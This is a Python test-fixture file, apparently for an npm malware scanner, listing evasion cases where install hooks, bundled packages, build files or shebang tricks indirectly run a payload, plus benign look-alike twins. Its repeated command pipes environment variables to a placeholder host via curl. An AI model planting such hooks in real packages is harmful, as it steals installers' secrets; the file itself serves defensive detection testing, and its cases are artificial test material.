"""npm: attacks that a hook starts by way of another program's words, a bundled package, or a first line; each mechanism was seen to run."""

from tests.evasions.case import HOST, JS_PAYLOAD, Case, package

_SENDS = f"env | curl -d @- {HOST}/in"
_NODE = "#!/usr/bin/env node\n"


def _hooked(id_: str, command: str, files: dict[str, bytes | str] | None = None, **scripts: str) -> Case:
    manifest = package(scripts={"postinstall": command, **scripts})
    return Case(id_, "npm", {"package.json": manifest, "index.js": "module.exports = {}\n", **(files or {})})


def _program(id_: str, path: str, code: str) -> Case:
    files = {"package.json": package(bin=path), "index.js": "module.exports = {}\n", path: code}
    return Case(id_, "npm", files)


def _bundles(id_: str, **inner: bytes | str) -> Case:
    files = {f"node_modules/part/{name.replace('__', '.')}": data for name, data in inner.items()}
    manifest = package(bundleDependencies=["part"], dependencies={"part": "1.0.0"})
    return Case(id_, "npm", {"package.json": manifest, "index.js": "module.exports = {}\n", **files})


def _part(**fields: object) -> str:
    return package(name="part", **fields)


CASES: tuple[Case, ...] = (
    _hooked("hook-runs-a-script", "npm run b", b=_SENDS),
    _hooked("hook-runs-a-script-behind-options", "npm --loglevel silent --prefix . rum b", b=_SENDS),
    _hooked("hook-runs-a-script-of-a-folder", "cd sub && npm run b", {"sub/package.json": package(name="s", scripts={"b": _SENDS})}),
    _hooked("hook-starts-the-server", "npm start", {"server.js": JS_PAYLOAD}),
    _hooked("hook-by-the-path-of-npm", "node $npm_execpath run b", b=_SENDS),
    _hooked("install-script-runs-a-script", "node i.js", {"i.js": "require('child_process').execSync('npm run b', {stdio: 'ignore'})\n"}, b=_SENDS),
    _hooked("inline-asks-for-a-file", "node -e \"try{require('./lib/e')}catch(e){}\"", {"lib/e.js": JS_PAYLOAD}),
    _hooked("inline-forks-a-test", "node -e \"require('child_process').fork('./test/e')\"", {"test/e.js": JS_PAYLOAD}),
    _hooked("script-s-inline-asks-for-a-text", "sh i.sh", {"i.sh": "node -p \"require('./e.txt')\"\n", "e.txt": JS_PAYLOAD}),
    _hooked("own-folder-in-a-command-line", "node lib/i.js", {"lib/i.js": "require('child_process').exec('node ' + __dirname + '/test/e.js')\n", "lib/test/e.js": JS_PAYLOAD}),
    _hooked("read-from-the-input", "node < notes.txt", {"notes.txt": JS_PAYLOAD}),
    _hooked("required-by-the-environment", 'NODE_OPTIONS="--require ./test/e.js" node -v; node -e 1', {"test/e.js": JS_PAYLOAD}),
    _hooked("beside-the-script", "sh scripts/i.sh", {"scripts/i.sh": 'D=$(cd "$(dirname "$0")" && pwd)\nnode "$D/e.txt"\n', "scripts/e.txt": JS_PAYLOAD}),
    _bundles("bundled-hook", package__json=_part(scripts={"postinstall": _SENDS})),
    _bundles("bundled-hook-s-file", package__json=_part(scripts={"install": "node test/e"}), **{"test/e__js": JS_PAYLOAD}),
    _bundles("bundled-build", package__json=_part(), binding__gyp="{'targets': [{'target_name': 'x', 'sources': ['<!(" + _SENDS + ")']}]}"),
    _hooked("build-includes-a-text", "node-gyp rebuild -C native", {"native/binding.gyp": "{'includes': ['notes.txt'], 'targets': [{'target_name': 'x'}]}", "native/notes.txt": "{'variables': {'x': '<!(" + _SENDS + ")'}}"}),
    _program("program-in-declarations", "lib/main.d.ts", _NODE + JS_PAYLOAD),
    _program("program-in-a-python-name", "lib/main.py", _NODE + JS_PAYLOAD),
    _program("shell-in-a-script-s-comment", "lib/main.js", f"#!/bin/sh\n':' /*\n{_SENDS}\nexit\n*/\nconsole.log(1)\n"),
)  # fmt: skip

TWINS: tuple[Case, ...] = (
    _hooked("hook-runs-a-build", "npm run --silent build", {"scripts/build.js": "console.log('built')\n"}, build="node scripts/build.js"),
    _hooked("inline-asks-for-a-notice", "node -e \"try{require('./postinstall')}catch(e){}\"", {"postinstall.js": "console.log('Thank you for using sample')\n"}),
    _hooked("own-folder-in-a-command-line-of-a-build", "node lib/i.js", {"lib/i.js": "require('child_process').execSync('node ' + __dirname + '/build.js')\n", "lib/build.js": "require('fs').writeFileSync(__dirname + '/out.json', '{}')\n"}),
    _hooked("patch-read-from-the-input", "sh scripts/i.sh", {"scripts/i.sh": 'D=$(cd "$(dirname "$0")" && pwd)\n[ -f out ] || patch -p1 < "$D/x.patch"\nnode "$D/done.js"\n', "scripts/x.patch": "--- a\n+++ b\n", "scripts/done.js": "console.log('done')\n"}),
    _bundles("bundled-hook-that-thanks", package__json=_part(scripts={"postinstall": "node notice.js"}), notice__js="console.log('part is maintained by few people')\n"),
    _bundles("bundled-package-with-a-build-of-its-own", package__json=_part(scripts={"install": "node-gyp-build"}), binding__gyp="{'targets': [{'target_name': 'x', 'sources': ['x.c'], 'include_dirs': ['<!(node -p \"require(\\'./include\\').path\")']}]}", include__js="exports.path = __dirname\n"),
    _program("program-that-starts-node-itself", "bin/main.js", "#!/bin/sh\n':' //; exec \"$(command -v nodejs || command -v node)\" \"$0\" \"$@\"\nconst {run} = require('../index.js')\nrun(process.argv.slice(2))\n"),
    _program("program-without-a-first-line", "bin/main.js", "'use strict'\nconst https = require('https')\nhttps.get('https://api.sample-backend.com/v1/status', r => r.pipe(process.stdout))\n"),
)  # fmt: skip
